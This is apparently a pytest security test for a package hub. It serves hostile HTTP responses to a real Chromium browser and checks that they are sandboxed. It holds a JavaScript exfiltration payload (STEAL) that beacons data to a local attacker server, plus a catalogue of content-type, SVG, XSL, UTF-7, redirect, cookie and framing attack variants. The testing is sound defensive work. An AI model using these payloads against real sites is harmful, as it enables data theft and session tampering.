"""A real Chromium opens what a hostile package answers: nothing runs, nothing is stored, and nothing leaves."""

from __future__ import annotations

import shutil
from collections.abc import AsyncIterator
from typing import Any, NamedTuple

import hostile_endpoint
import pytest
from aiohttp import web
from hostile_endpoint import answer, raw_path

from ludus.hub.app import parts_of

async_api: Any = pytest.importorskip("playwright.async_api", reason="needs playwright")
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")

pytestmark = [
    pytest.mark.suite("hub-endpoints"),
    pytest.mark.skipif(CHROMIUM is None, reason="needs chromium"),
    pytest.mark.timeout(240),
]

STEAL = "fetch('/api/v1/packages').then(r => r.text()).then(t => { new Image().src = '%s/stolen?' + self.origin })"
"""Reads from the origin of the page, and reports to the attacker."""


LURES = 7
"""The HTTP requests of the page below: image, two frames, script, style sheet, fetch, beacon."""


class Attacker(NamedTuple):
    """A site of the attacker."""

    url: str
    asked: list[str]
    """The paths that browsers have asked it for."""
    pages: dict[str, str]
    """Its pages, by path."""


@pytest.fixture
async def attacker() -> AsyncIterator[Attacker]:
    asked: list[str] = []
    pages: dict[str, str] = {"/api/v1/packages": "[]"}

    async def serve(request: web.Request) -> web.Response:
        asked.append(request.path_qs)
        return web.Response(text=pages.get(request.path, ""), content_type="text/html")

    site = web.Application()
    site.router.add_route("*", "/{path:.*}", serve)
    runner = web.AppRunner(site)
    await runner.setup()
    try:
        await web.TCPSite(runner, "127.0.0.1", 0).start()
        yield Attacker(f"http://127.0.0.1:{runner.addresses[0][1]}", asked, pages)
    finally:
        await runner.cleanup()


@pytest.fixture
async def hostile(start_hub: Any) -> Any:
    hub = await start_hub()
    await hub.publish("hostile", source=hostile_endpoint.SOURCE, cls="Hostile")
    return hub


@pytest.fixture
async def context() -> AsyncIterator[Any]:
    async with async_api.async_playwright() as playwright:
        browser = await playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        yield await browser.new_context()
        await browser.close()


def attacks(attacker: str) -> dict[str, bytes]:
    """Return the answers that a person's browser gets, by what each tries."""
    script = STEAL % attacker
    page = f"<!doctype html><script>{script}</script><img src={attacker}/stolen-by-image>"
    svg = f'<svg xmlns="http://www.w3.org/2000/svg"><script>{script}</script></svg>'
    xhtml = f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{script}</script></html>'
    style = (
        '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><x><s:stylesheet id="s" version="1.0" '
        'xmlns:s="http://www.w3.org/1999/XSL/Transform"><s:template match="/"><script xmlns='
        f'"http://www.w3.org/1999/xhtml">{script}</script></s:template></s:stylesheet></x>'
    )
    plain = "content-type: text/plain"
    named = "; filename=ludus-hub.html"
    return {
        "a page": answer("content-type: text/html", body=page),
        "a page that allows itself everything": answer(
            "content-type: text/html", "content-security-policy: default-src * 'unsafe-inline'", body=page
        ),
        "a page without a type": answer(body=page),
        "a page as plain text, to be sniffed": answer(plain, "x-content-type-options: sniff", body=page),
        "a page as JSON": answer("content-type: application/json", body=page),
        "a page as a stream of events": answer("content-type: text/event-stream", body=page),
        "a page in UTF-7": answer("content-type: text/plain; charset=utf-7", body=page),
        "two types": answer(plain, "content-type: text/html", body=page),
        "an image with a script": answer("content-type: image/svg+xml", body=svg),
        "XHTML": answer("content-type: application/xhtml+xml", body=xhtml),
        "XML with a style sheet": answer("content-type: text/xml", body=style),
        "parts that replace each other": answer(
            "content-type: multipart/x-mixed-replace; boundary=x",
            body=f"--x\r\ncontent-type: text/html\r\n\r\n{page}\r\n--x--",
        ),
        "a download in the hub's name": answer(plain, f"content-disposition: attachment{named}", body=page),
        "a redirect": answer(f"location: {attacker}/stolen-by-redirect", status="302 Found"),
        "a refresh": answer(plain, f"refresh: 0; url={attacker}/stolen-by-refresh", body="wait"),
        "links and reports": answer(
            plain, f"link: <{attacker}/stolen-by-link>; rel=preload; as=script", f"sourcemap: {attacker}/stolen-by-map",
            f'reporting-endpoints: default="{attacker}/stolen-by-report"', body="x",
        ),
        "a request for a password": answer(
            'www-authenticate: Basic realm="Ludus hub"', plain, body="x", status="401 Unauthorized"
        ),
        "cookies": answer(plain, "set-cookie: theirs=1; path=/", "clear-site-data: \"cookies\", \"storage\"", body="x"),
        "an error page": answer("content-type: text/html", body=page, status="500 Internal Server Error"),
    }  # fmt: skip


async def test_the_attack_works_on_a_page_that_the_attacker_serves_itself(attacker: Attacker, context: Any) -> None:
    attacker.pages["/own"] = f"<!doctype html><script>{STEAL % attacker.url}</script>"
    page = await context.new_page()
    async with page.expect_request(lambda sent: "/stolen?" in sent.url):
        await page.goto(f"{attacker.url}/own")


@pytest.mark.parametrize("place", ["path", "host name"])
async def test_nothing_that_a_process_answers_runs_stores_or_leaves_in_the_hubs_name(
    hostile: Any, attacker: Attacker, context: Any, place: str
) -> None:
    base = hostile.address("hostile")
    if place == "host name":
        base = hostile.url.replace("http://127.0.0.1", "http://hostile.ada.localhost")
    await context.add_cookies([{"name": "own", "value": "1", "url": hostile.url}])
    downloads: list[Any] = []
    for name, sent in attacks(attacker.url).items():
        page = await context.new_page()
        page.on("download", lambda file: downloads.append(file))
        got = await page.goto(base + raw_path(sent), wait_until="networkidle")
        assert got is not None
        assert got.headers["content-security-policy"] == "default-src 'none'; sandbox", name
        assert await page.evaluate("self.origin") == "null", name
        assert await page.evaluate("document.scripts.length") == 0, name
        assert page.url == base + raw_path(sent), name
        await page.close()
    assert attacker.asked == []
    assert downloads == []
    assert [cookie["name"] for cookie in await context.cookies([hostile.url, base])] == ["own"]


async def test_pages_of_an_attacker_frame_embed_and_post_to_an_endpoint_in_vain(
    hostile: Any, attacker: Attacker, context: Any, tools: Any
) -> None:
    script = STEAL % attacker.url
    target = hostile.address("hostile") + raw_path(answer("content-type: text/html", body=f"<script>{script}</script>"))
    attacker.pages["/lure"] = (
        f"<!doctype html><img src='{target}'><iframe src='{target}'></iframe><script src='{target}'></script>"
        f"<link rel=stylesheet href='{target}'><iframe name=sink></iframe>"
        f"<form id=form method=post target=sink action='{target}'><input name=a value=b></form>"
        f"<script>form.submit(); new WebSocket('{target.replace('http', 'ws', 1)}');"
        f"fetch('{target}', {{mode: 'no-cors'}}); navigator.sendBeacon('{target}')</script>"
    )
    statuses: list[int] = []
    page = await context.new_page()
    page.on("response", lambda got: statuses.append(got.status) if got.url == target else None)
    await page.goto(f"{attacker.url}/lure", wait_until="networkidle")
    assert set(statuses) == {403}
    assert parts_of(hostile.app).hub.counts["refused:Forbidden"] == LURES
    assert tools.server_processes() == []
    assert [path for path in attacker.asked if "stolen" in path] == []


async def test_a_switch_to_a_websocket_sets_no_cookie(hostile: Any, context: Any) -> None:
    fields = ("HTTP/1.1 101 Switching Protocols", "upgrade: websocket", "connection: Upgrade", "set-cookie: theirs=1")
    switch = "".join(f"{line}\r\n" for line in (*fields, "")).encode()
    page = await context.new_page()
    await page.goto(hostile.url)
    await page.request.get(hostile.address("hostile") + "/health")  # the process runs
    worker = hostile.server("hostile").worker.name
    channel = f"{hostile.address('hostile')}/workers/{worker}/channel?{raw_path(switch)}"
    ended = await page.evaluate(
        "url => new Promise(done => { new WebSocket(url).onclose = () => done('closed') })",
        channel.replace("http", "ws", 1),
    )
    assert ended == "closed"
    assert await context.cookies() == []


async def test_a_wheel_is_downloaded_from_the_index_by_a_click(hostile: Any, context: Any) -> None:
    page = await context.new_page()
    await page.goto(f"{hostile.url}/index/simple/ada-hostile/")
    async with page.expect_download() as download:
        await page.locator("a").first.click()
    assert (await download.value).suggested_filename.endswith(".whl")
